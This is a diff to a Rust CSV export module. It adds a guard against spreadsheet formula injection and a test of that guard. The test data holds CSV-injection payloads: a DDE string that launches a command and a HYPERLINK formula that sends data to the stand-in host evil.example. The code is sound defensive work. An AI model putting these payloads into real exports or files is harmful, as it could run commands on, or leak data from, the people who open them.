@@ -44,12 +44,28 @@ pub fn negotiate(accept: Option<&str>) -> Option<Format> {
     best.map(|(_, f)| f)
 }
 
-/// CSV `day,query,count` with RFC 4180 quoting.
+/// A text cell a spreadsheet will not run: one that begins with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return gets a leading `'` (OWASP, CSV injection). Only the query is text; the
+/// date and the count are written by the server and stay as they are, numbers included.
+pub fn text_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+/// CSV `day,query,count` with RFC 4180 quoting; a withheld day's count cell is empty.
 pub fn csv(rows: &[ExportRow]) -> Result<Vec<u8>, csv::Error> {
     let mut w = csv::Writer::from_writer(Vec::new());
     w.write_record(["day", "query", "count"])?;
     for r in rows {
-        w.write_record([r.date.to_string(), r.query.clone(), r.count.to_string()])?;
+        let count = r.count.map_or_else(String::new, |c| c.to_string());
+        w.write_record([
+            r.date.to_string().as_str(),
+            &text_cell(&r.query),
+            count.as_str(),
+        ])?;
     }
     w.into_inner()
         .map_err(|e| csv::Error::from(std::io::Error::other(e.to_string())))
@@ -93,6 +109,46 @@ pub fn render(rows: &[ExportRow], format: Format) -> Response {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use chrono::NaiveDate;
+
+    #[test]
+    fn formula_cells_get_a_leading_quote_and_numbers_stay_numbers() {
+        let date = NaiveDate::from_ymd_opt(2018, 5, 9).unwrap();
+        let row = |query: &str, count: Option<i64>| ExportRow {
+            date,
+            query: query.into(),
+            count,
+        };
+        let rows = [
+            row("=cmd|' /C calc'!A0", Some(3)),
+            row("+SUM(1+1)", Some(1)),
+            row("-2+3", Some(2)),
+            row("@SUM(1)", Some(4)),
+            row("=HYPERLINK(\"http://evil.example/?leak\")", Some(5)),
+            row("\tindent", Some(6)),
+            row("\rreturn", Some(7)),
+            row("flu, fever", Some(8)),
+            row("a=b", Some(9)),
+            row("_total", None),
+        ];
+        let text = String::from_utf8(csv(&rows).unwrap()).unwrap();
+        assert_eq!(
+            text,
+            "day,query,count\n\
+             2018-05-09,'=cmd|' /C calc'!A0,3\n\
+             2018-05-09,'+SUM(1+1),1\n\
+             2018-05-09,'-2+3,2\n\
+             2018-05-09,'@SUM(1),4\n\
+             2018-05-09,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\")\",5\n\
+             2018-05-09,'\tindent,6\n\
+             2018-05-09,\"'\rreturn\",7\n\
+             2018-05-09,\"flu, fever\",8\n\
+             2018-05-09,a=b,9\n\
+             2018-05-09,_total,\n"
+        );
+        assert_eq!(text_cell("flu"), "flu");
+        assert_eq!(text_cell(""), "");
+    }
 
     #[test]
     fn negotiation_prefers_highest_quality_and_defaults_to_json() {
